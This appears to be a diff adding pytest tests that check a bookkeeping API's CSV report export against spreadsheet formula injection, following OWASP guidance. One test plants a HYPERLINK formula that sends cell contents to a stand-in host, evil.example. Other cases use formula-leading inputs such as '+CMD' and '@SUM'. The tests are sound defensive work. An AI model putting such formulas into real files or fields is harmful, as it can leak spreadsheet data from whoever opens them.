@@ -87,6 +87,42 @@ def test_reports_as_csv_for_spreadsheets(api, books):
     assert bad.status_code == 400 and bad.json()["errors"][0]["field"] == "as_of"
 
 
+def test_csv_cells_cannot_be_spreadsheet_formulas_and_numbers_stay_numbers(api, books, customer):
+    """OWASP CSV injection: text starting =, +, -, @, tab or CR is prefixed with ' ; -300.00 stays a number."""
+    customer.name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    customer.code = "+CMD"
+    customer.save(update_fields=["name", "code"])
+    r = api.get("/api/v2/reports/ar-aging/", {"as_of": "2026-03-31", "format": "csv"})
+    table = list(csv.reader(io.StringIO(r.content.decode())))
+    rows = {row[0]: dict(zip(table[0], row, strict=True)) for row in table[1:]}
+    row = rows[str(customer.pk)]
+    assert row["name"] == "'" + customer.name and row["code"] == "'+CMD"
+    assert row["unapplied_credit"] == "-300.00" and row["days_61_90"] == "1500.00"
+    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for line in table for cell in line)
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("-150.00", "-150.00"),
+        ("-7", "-7"),
+        ("-1+1", "'-1+1"),
+        ("-1e5", "'-1e5"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("+44 20 7946 0000", "'+44 20 7946 0000"),
+        ("Ribeye", "Ribeye"),
+        (None, ""),
+        (Decimal("-2.50"), Decimal("-2.50")),
+    ],
+)
+def test_csv_cell(value, cell):
+    from cashsheet.api.csv import csv_cell
+
+    assert csv_cell(value) == cell
+
+
 @pytest.mark.parametrize(
     "name, params, field",
     [
